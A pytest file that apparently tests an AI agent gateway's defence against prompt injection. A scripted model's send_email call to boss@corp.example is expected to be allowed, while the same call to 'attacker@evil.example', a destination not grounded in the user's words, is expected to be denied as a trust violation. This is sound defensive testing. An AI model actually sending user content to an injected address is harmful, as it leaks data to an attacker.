"""Policy v2 over the proxies with a grounding store that may wait (as a shared one does):
the user's words still ground destinations, recorded off the event loop before the turn's
calls are decided, and a tool result still never does.

The store is the in-memory one with its non-blocking declaration withdrawn, which is what
the gateway sees of a shared store (``fak_core.redis_stores``): an undeclared part is assumed
to wait. The verdicts expected are written out by hand.
"""

from __future__ import annotations

import asyncio
import uuid

import httpx
import pytest
from starlette.applications import Starlette

from fak_core import Kernel
from fak_core.gateway import GatewayState, UpstreamConfig, proxy_routes
from fak_core.grounding import GroundingStore
from fak_core.nonblocking import is_nonblocking

from .scripted_upstream import Script, ScriptedUpstream
from .test_grounding_proxy import POLICY, turn_facts


class WaitingStore(GroundingStore):
    """The in-memory store, declared as one that may wait."""

    __fak_nonblocking__ = False


def _gateway() -> tuple[ScriptedUpstream, GatewayState, Starlette]:
    upstream = ScriptedUpstream()
    state = GatewayState(Kernel(POLICY, grounding=WaitingStore()))
    assert not is_nonblocking(state.kernel.grounding)
    cfg = UpstreamConfig(base_url="http://up/v1", transport=httpx.ASGITransport(app=upstream.app))
    return upstream, state, Starlette(routes=proxy_routes(state, cfg))


@pytest.mark.parametrize("wire", ["openai", "anthropic"])
@pytest.mark.fak_theorem("C4.6")
def test_a_store_that_may_wait_still_grounds_the_users_words(wire: str) -> None:
    upstream, state, app = _gateway()
    verdicts = {}
    for to in ("boss@corp.example", "attacker@evil.example"):
        upstream.reset(Script(calls=[("send_email", {"to": to, "body": "the summary"})]))
        trace = f"wait-{wire}-{uuid.uuid4().hex[:8]}"
        fak = asyncio.run(turn_facts(app, wire, trace))
        assert state.kernel.taint(trace).label == "tainted"
        verdicts[to] = fak["adjudications"][0]["verdict"]
    assert verdicts["boss@corp.example"]["kind"] == "ALLOW"
    bad = verdicts["attacker@evil.example"]
    assert (bad["kind"], bad["reason"]) == ("DENY", "TRUST_VIOLATION")
    assert "/to = 'attacker@evil.example'" in bad["detail"]["claim"]
